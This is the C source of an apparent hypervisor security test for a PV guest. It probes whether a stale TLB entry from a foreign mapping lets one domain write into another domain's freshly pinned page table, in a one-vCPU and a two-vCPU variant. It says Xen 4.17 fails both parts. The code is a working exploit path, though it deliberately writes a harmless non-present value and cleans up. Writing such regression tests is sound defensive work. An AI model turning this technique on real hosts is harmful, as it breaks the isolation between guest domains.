/*
 * Attack: write another domain's page table through a stale TLB entry left
 * by a foreign mapping.  Dom0 builds a PV domain with one frame (the
 * victim), maps it writable through a foreign mmu_update at a window VA
 * (an L1 of our own hooked into our page tables), zeroes it (a valid empty
 * L1), touches it so that a TLB caches the writable translation, points
 * the window at a frame of its own with no flush of the other vCPU, and
 * pins the victim as the domain's L1 (mmuext_op with foreigndom).  Then the
 * window is written again.  If the stale entry survived the retype, the
 * write lands in the pinned L1: an unvalidated PTE of another domain.  The
 * value written has the present bit clear, so a successful attack leaves
 * nothing worse than a wrong entry behind.
 *  1. one vCPU: the window is re-pointed with no invlpg;
 *  2. two vCPUs: vCPU 1 caches the entry; vCPU 0 re-points the window
 *     (mmu_update flushes at most the local TLB), pins, and vCPU 1 writes:
 *     the pin must flush the mapper's CPUs, not only the owner's.
 * Keel (page_info.foreign_dirty, flushed before the retype): the pin
 * succeeds, entry 0 of the L1 stays 0, the write lands in our own frame.
 * Prints "Not vulnerable" when it did every time.  Xen 4.17 fails both
 * parts (checked): at a type change it flushes only the owner's dirty
 * CPUs, and its mmu_update flushes nothing, trusting dom0 to flush its own
 * TLBs; hence xfail-xen in TESTS.  Keel makes no such exception for the
 * mapper (a grant mapper is no trusted dom0).  Without the flush of
 * foreign_dirty in the retype, part 2 fails on Keel (checked).
 */
#include "pv.h"
#include "pv_vcpu.h"
#include "console.h"
#include "report.h"
#include "string.h"
#include "domctl_ops.h"
#include <public/memory.h>

const char test_title[] = "stale TLB entry of a foreign mapping vs a retype to page table";

#define HOLE_SLOT   8                               /* VIRT_BASE + 16 MiB: unused */
#define WINDOW      (GUEST_VIRT_BASE + ((unsigned long)HOLE_SLOT << 21))
#define JUDGE       (WINDOW + PAGE_SIZE)            /* the victim, read-only */
#define PTE_RO_BITS (_PAGE_PRESENT | _PAGE_ACCESSED)
#define PTE_RW_BITS (_PAGE_PRESENT | _PAGE_RW | _PAGE_ACCESSED | _PAGE_DIRTY)
#define EVIL        0x5a5a5a5a5a5a5a5aUL            /* bit 0 (present) clear */
#define LOOPS       400000UL

static uint64_t l1[512] __page_aligned __section(".bss.page_aligned");
static uint8_t own[4096] __page_aligned __section(".bss.page_aligned");
static uint8_t ap_stack[PV_VCPU_STACK] __attribute__((aligned(16)));
static const unsigned long *m2p = (const unsigned long *)MACH2PHYS_VIRT_START;
static volatile unsigned long go, ack;
static domid_t_abi victim_dom;
static xen_pfn_t victim;

static bool rc_is(const char *what, long rc, long want)
{
    check_rc(what, rc, want);
    return rc == want;
}

static uint64_t *table_va(uint64_t entry)
{
    return (uint64_t *)(GUEST_VIRT_BASE + (m2p[(entry & PTE_ADDR_MASK) >> PAGE_SHIFT] << PAGE_SHIFT));
}

/* Entry i of our L1 := frame|bits of domain dom; no TLB flush asked for. */
static long set_slot(unsigned int i, uint64_t frame, uint64_t bits, unsigned int dom)
{
    struct mmu_update u = { .ptr = (virt_to_maddr(l1) + i * 8) | MMU_NORMAL_PT_UPDATE,
                            .val = frame ? (frame << PAGE_SHIFT) | bits : 0 };

    return hypercall_mmu_update(&u, 1, NULL, dom);
}

static long foreign_op(unsigned int cmd)
{
    struct mmuext_op op = { .cmd = cmd };

    op.arg1.mfn = victim;
    return hypercall_mmuext_op(&op, 1, NULL, victim_dom);
}

static void invlpg(unsigned long va)
{
    mmuext_one(MMUEXT_INVLPG_LOCAL, va, 0);
}

/* vCPU 1: cache the window's translation (go 1), then write through it (go 2). */
static void ap_main(unsigned int id)
{
    (void)id;
    while ( go != 1 )
        ;
    *(volatile uint64_t *)WINDOW = 0;
    ack = 1;
    while ( go != 2 )
        ;
    *(volatile uint64_t *)WINDOW = EVIL;
    ack = 2;
}

/* The window at the victim, writable (foreign), zeroed; the judge at it read-only. */
static bool map_window_at_victim(void)
{
    if ( !rc_is("window -> victim, writable", set_slot(0, victim, PTE_RW_BITS, victim_dom), 0) )
        return false;
    invlpg(WINDOW);
    memset((void *)WINDOW, 0, PAGE_SIZE);
    memset(own, 0, sizeof(own));
    return rc_is("judge -> victim, read-only", set_slot(1, victim, PTE_RO_BITS, victim_dom), 0);
}

/* The window leaves the victim for our own frame: no invlpg here. */
static bool repoint_window(void)
{
    return rc_is("window -> our own frame, no flush",
                 set_slot(0, virt_to_mfn(own), PTE_RW_BITS, DOMID_SELF), 0);
}

static void pin_and_judge(const char *what, void (*write)(void))
{
    long pin = foreign_op(MMUEXT_PIN_L1_TABLE);
    uint64_t entry0, mine;

    printk("%s: pin the victim as d%u's L1: %ld\n", what, victim_dom, pin);
    check_rc("pin the victim as an L1", pin, 0);
    write();
    invlpg(JUDGE);
    entry0 = *(volatile uint64_t *)JUDGE;
    mine = *(volatile uint64_t *)own;
    printk("%s: entry 0 of the L1 %#lx, our frame %#lx\n", what, entry0, mine);
    if ( entry0 != 0 )
        xtf_failure("Fail: %s: wrote %#lx into a pinned L1 through a stale TLB entry\n",
                    what, entry0);
    else if ( mine != EVIL )
        xtf_failure("Fail: %s: the write went nowhere visible (%#lx)\n", what, mine);
    if ( pin == 0 )
        check_rc("unpin", foreign_op(MMUEXT_UNPIN_TABLE), 0);
    check_rc("judge unmapped", set_slot(1, 0, 0, DOMID_SELF), 0);
    invlpg(WINDOW);
    invlpg(JUDGE);
}

static void write_here(void)
{
    *(volatile uint64_t *)WINDOW = EVIL;
}

static void write_on_vcpu1(void)
{
    go = 2;
    if ( !wait_for_value(&ack, 2, LOOPS) )
        xtf_failure("Fail: vCPU 1 did not write\n");
}

static void one_vcpu(void)
{
    if ( !map_window_at_victim() )
        return;
    *(volatile uint64_t *)WINDOW = 0;           /* the TLB caches it writable */
    if ( repoint_window() )
        pin_and_judge("no flush", write_here);
}

static void two_vcpus(void)
{
    if ( pv_nr_vcpus(64) < 2 )
        return (void)xtf_skip("Skip: part 2 needs 2 vCPUs (QEMU -smp 2)\n");
    if ( !map_window_at_victim() )
        return;
    if ( !rc_is("start vCPU 1", pv_start_vcpu(1, ap_main, ap_stack + sizeof(ap_stack)), 0) )
        return;
    go = 1;
    if ( !wait_for_value(&ack, 1, LOOPS) )
        return (void)xtf_failure("Fail: vCPU 1 did not touch the window\n");
    if ( repoint_window() )
        pin_and_judge("vCPU 1's TLB", write_on_vcpu1);
}

void test_main(void)
{
    const uint64_t *l4 = (const uint64_t *)start_info->pt_base;
    uint64_t *l3 = table_va(l4[l4_index(GUEST_VIRT_BASE)]);
    uint64_t *l2 = table_va(l3[l3_index(GUEST_VIRT_BASE)]);
    struct xen_domctl op = { 0 };
    struct xen_memory_reservation r = { .extent_start = (uint64_t)(uintptr_t)&victim,
                                        .nr_extents = 1 };
    struct mmu_update hook = { .ptr = (virt_to_maddr(l2) + HOLE_SLOT * 8) | MMU_NORMAL_PT_UPDATE };

    if ( l2[HOLE_SLOT] )
        return xtf_error("Error: L2 slot %u of the image is in use\n", HOLE_SLOT);
    op.u.createdomain = domain_config(false, 1);
    if ( !rc_is("createdomain", domctl_op(XEN_DOMCTL_createdomain, 0, &op), 0) )
        return;
    victim_dom = op.domain;
    op.u.max_mem.max_memkb = 64;
    check_rc("max_mem", domctl_op(XEN_DOMCTL_max_mem, victim_dom, &op), 0);
    r.domid = victim_dom;
    check_rc("populate one frame", hypercall_memory_op(XENMEM_populate_physmap, &r), 1);
    check_rc("make our L1 read-only", make_page_ro(l1), 0);
    hook.val = virt_to_maddr(l1) | PTE_RW_BITS;
    check_rc("hook our L1", hypercall_mmu_update(&hook, 1, NULL, DOMID_SELF), 0);
    if ( xtf_status_is_failing() )
        return;

    one_vcpu();
    two_vcpus();

    set_slot(0, 0, 0, DOMID_SELF);
    hook.val = 0;
    check_rc("unhook our L1", hypercall_mmu_update(&hook, 1, NULL, DOMID_SELF), 0);
    mmuext_one(MMUEXT_TLB_FLUSH_ALL, 0, 0);
    check_rc("make our L1 writable again", make_page_rw(l1), 0);
    check_rc("destroy the domain", domctl_op(XEN_DOMCTL_destroydomain, victim_dom, &op), 0);
    if ( !xtf_status_is_failing() )
        printk("Not vulnerable\n");
}
